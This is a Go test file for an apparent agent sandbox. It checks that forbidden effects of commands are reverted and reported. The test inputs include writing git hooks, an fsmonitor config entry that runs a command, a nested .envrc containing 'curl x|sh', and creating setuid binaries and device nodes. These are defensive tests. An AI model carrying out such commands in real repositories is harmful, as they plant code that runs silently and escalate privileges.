package executor

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/agentbox/agentbox/policy"
	"github.com/agentbox/agentbox/sandbox/wire"
)

func matchFile(allow, deny []string, rel string, write bool) (bool, string) {
	v, rule, _ := policy.MatchFile(allow, deny, rel, write)
	return v == policy.Deny, rule
}

func effectsServer(t *testing.T) *Server {
	s := testServer(t)
	s.judge = nil
	for name, body := range map[string]string{".git/config": "[core]\n", ".git/hooks/README": "x", "src/main.go": "package main\n", "old-setuid": "x"} {
		p := filepath.Join(s.testRoot, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(filepath.Join(s.testRoot, "old-setuid"), 0o755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	e, err := newEffects(s.testRoot, &wire.Rules{Deny: []string{".git/config", ".git/hooks/**", ".git/commondir", "**/.envrc"}}, matchFile)
	if err != nil {
		t.Fatal(err)
	}
	s.effects = e
	return s
}

func alarmed(resp *wire.Response, rel, what, action string) bool {
	for _, a := range resp.Alarms {
		if string(a.Path) == rel && a.What == what && a.Action == action {
			return true
		}
	}
	return false
}

// Forbidden effects of a command are undone after it and reported.
func TestEffectsUndone(t *testing.T) {
	cases := []struct {
		name, cmd, rel, what, action string
		check                        func(t *testing.T, root string)
	}{
		{"new hook", "printf '#!/bin/sh\\ntouch /tmp/x\\n' > .git/hooks/post-checkout", ".git/hooks/post-checkout", "created", "removed", absent(".git/hooks/post-checkout")},
		{"new commondir", "echo /tmp/evil > .git/commondir", ".git/commondir", "created", "removed", absent(".git/commondir")},
		{"nested envrc", "mkdir -p a/b && echo 'curl x|sh' > a/b/.envrc", "a/b/.envrc", "created", "removed", absent("a/b/.envrc")},
		{"envrc as directory", "mkdir -p .envrc/x", ".envrc", "created", "removed", absent(".envrc")},
		{"envrc symlink", "ln -s /etc/passwd .envrc", ".envrc", "created", "removed", absent(".envrc")},
		{"config rewritten", "echo '[core]\n\tfsmonitor = touch /tmp/x' > .git/config", ".git/config", "changed", "restored", content(".git/config", "[core]\n")},
		{"config replaced by rename", "echo evil > c && mv c .git/config", ".git/config", "changed", "restored", content(".git/config", "[core]\n")},
		{"config deleted", "rm .git/config", ".git/config", "removed", "restored", content(".git/config", "[core]\n")},
		{"setuid file", "cp /bin/true tool && chmod 4755 tool", "tool", "setid", "cleared", noSetid("tool")},
		{"setgid file", "cp /bin/true tool && chmod 2755 tool", "tool", "setid", "cleared", noSetid("tool")},
		{"setuid deep", "mkdir -p d/e && cp /bin/true d/e/t && chmod u+s d/e/t", "d/e/t", "setid", "cleared", noSetid("d/e/t")},
		{"device node", "mknod null c 1 3", "null", "device", "removed", absent("null")},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := effectsServer(t)
			resp := run(t, s, c.cmd)
			if resp.ExitCode != 0 {
				t.Fatalf("command failed (%d): %s", resp.ExitCode, resp.Output)
			}
			if !alarmed(resp, c.rel, c.what, c.action) {
				t.Fatalf("alarms %+v, want %s %s %s", resp.Alarms, c.rel, c.what, c.action)
			}
			c.check(t, s.testRoot)
			// Nothing more to report on the next call; what existed at
			// start (old-setuid, src) is left alone.
			if r := run(t, s, "true"); len(r.Alarms) != 0 {
				t.Fatalf("second check: %+v", r.Alarms)
			}
			if fi, err := os.Stat(filepath.Join(s.testRoot, "old-setuid")); err != nil || fi.Mode()&os.ModeSetuid == 0 {
				t.Fatalf("the host's own set-id file was changed")
			}
		})
	}
}

func TestEffectsAllowedChangesQuiet(t *testing.T) {
	s := effectsServer(t)
	resp := run(t, s, "echo x >> src/main.go; mkdir -p build; touch build/out .gitignore; chmod 755 src/main.go")
	if len(resp.Alarms) != 0 {
		t.Fatalf("alarms for allowed changes: %+v", resp.Alarms)
	}
}

func absent(rel string) func(*testing.T, string) {
	return func(t *testing.T, root string) {
		if _, err := os.Lstat(filepath.Join(root, rel)); err == nil {
			t.Fatalf("%s still exists", rel)
		}
	}
}

func content(rel, want string) func(*testing.T, string) {
	return func(t *testing.T, root string) {
		b, err := os.ReadFile(filepath.Join(root, rel))
		if err != nil || string(b) != want {
			t.Fatalf("%s: %q %v, want %q", rel, b, err, want)
		}
	}
}

func noSetid(rel string) func(*testing.T, string) {
	return func(t *testing.T, root string) {
		fi, err := os.Lstat(filepath.Join(root, rel))
		if err != nil || fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
			t.Fatalf("%s: %v %v", rel, fi.Mode(), err)
		}
	}
}
